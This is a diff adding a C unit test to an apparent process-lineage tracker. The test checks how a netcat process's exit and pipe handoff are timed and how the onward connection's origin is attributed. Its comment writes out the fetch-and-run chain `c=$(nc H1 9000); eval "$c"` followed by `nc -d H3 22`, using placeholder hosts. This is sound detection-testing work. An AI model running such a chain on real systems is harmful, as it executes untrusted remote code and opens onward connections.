@@ -396,6 +396,64 @@ static void test_hidden_close(void)
 	graph_free(g);
 }
 
+/* `c=$(nc H1 9000); eval "$c"` (tests/func/chain_handoff.sh, under load): the
+ * `$(...)` nc's EXIT came while the kernel still ran it (the shim sends it
+ * from exit()), so it was noted, and the sweep that found nc gone (up to a
+ * second later, graph_verify_alive) ended it then — after the shell had read
+ * the pipe to EOF and closed it. nc let go of the pipe after the shell, so it
+ * was no departed feeder of the shell's history and the onward nc's chain was
+ * local. A process that said it exits ended when the kernel last showed it
+ * running. */
+static void test_exit_noted_ends_when_seen(void)
+{
+	struct graph *g = mk(0);
+	const struct ht_chan pipe = {HT_CHAN_PIPE, 12, 960};
+	kproc_set(50, 1, 50, 50, 300);
+	ok(g, 50, 0, image_rec(1, "/usr/bin/dash", 1 * SEC));
+	kfd_set(50, 3, HT_CHAN_PIPE, 12, 960);
+	kfd_set(50, 4, HT_CHAN_PIPE, 12, 960);
+	struct ht_record r = fd_rec(HT_REC_PIPE, 3, pipe, 2 * SEC);
+	r.fd2 = 4;
+	ok(g, 50, 0, r);
+	kproc_set(51, 50, 50, 50, 301); /* $(nc H1 9000): stdout is the pipe */
+	r = R(HT_REC_BIRTH, 2 * SEC + 1);
+	r.num = 50;
+	r.ts2 = 2 * SEC + 1;
+	ok(g, 51, 0, r);
+	kfd_set(51, 1, HT_CHAN_PIPE, 12, 960);
+	r = R(HT_REC_DUP, 2 * SEC + 2);
+	r.fd = 4;
+	r.fd2 = 1;
+	ok(g, 51, 0, r);
+	ok(g, 51, 0, fd_rec(HT_REC_CLOSE, 3, (struct ht_chan){0, 0, 0}, 2 * SEC + 2));
+	ok(g, 51, 0, fd_rec(HT_REC_CLOSE, 4, (struct ht_chan){0, 0, 0}, 2 * SEC + 2));
+	ok(g, 51, 0, image_rec(50, "/usr/bin/nc.openbsd", 2 * SEC + 3));
+	kfd_set(51, 5, HT_CHAN_SOCK, 0, 3400);
+	ok(g, 51, 0, connect_rec(5, 3400, "192.0.2.9", 2 * SEC + 4));
+	kfd_del(50, 4);
+	ok(g, 50, 0, fd_rec(HT_REC_CLOSE, 4, (struct ht_chan){0, 0, 0}, 2 * SEC + 5));
+	ok(g, 51, 0, R(HT_REC_EXIT, 3 * SEC)); /* still running: noted */
+	CHECK(graph_proc(g, 51)->alive);
+	kproc_del(51); /* gone: the shell reads EOF, closes the pipe */
+	kfd_del(51, 1);
+	kfd_del(51, 5);
+	kfd_del(50, 3);
+	ok(g, 50, 0, fd_rec(HT_REC_CLOSE, 3, (struct ht_chan){0, 0, 0}, 3 * SEC + 2));
+	/* the sweep, a second later */
+	CHECK_EQ_INT(graph_verify_alive(g, graph_proc(g, 51), 4 * SEC), 0);
+	CHECK(graph_proc(g, 51)->exit_ts <= 3 * SEC + 2);
+	kproc_set(52, 50, 50, 50, 400); /* sleep 1; eval "$c": nc -d H3 22 */
+	r = R(HT_REC_BIRTH, 5 * SEC);
+	r.num = 50;
+	r.ts2 = 5 * SEC;
+	ok(g, 52, 0, r);
+	ok(g, 52, 0, image_rec(50, "/usr/bin/nc.openbsd", 5 * SEC + 1));
+	kfd_set(52, 3, HT_CHAN_SOCK, 0, 3401);
+	ok(g, 52, 0, connect_rec(3, 3401, "198.51.100.3", 5 * SEC + 2));
+	CHECK_ORIGINS(g, 52, 3401, 6 * SEC, "192.0.2.9");
+	graph_free(g);
+}
+
 static int count_uid(void *ctx, const struct graph_uid_stats *u)
 {
 	if (u->uid == 65534)
@@ -436,4 +494,4 @@ static void test_bounds(void)
 }
 
 T_MAIN("claims", T(test_forged_fdrecv), T(test_forged_fd_claims), T(test_forged_creator),
-       T(test_kernel_lineage), T(test_hidden_close), T(test_bounds))
+       T(test_kernel_lineage), T(test_hidden_close), T(test_exit_noted_ends_when_seen), T(test_bounds))
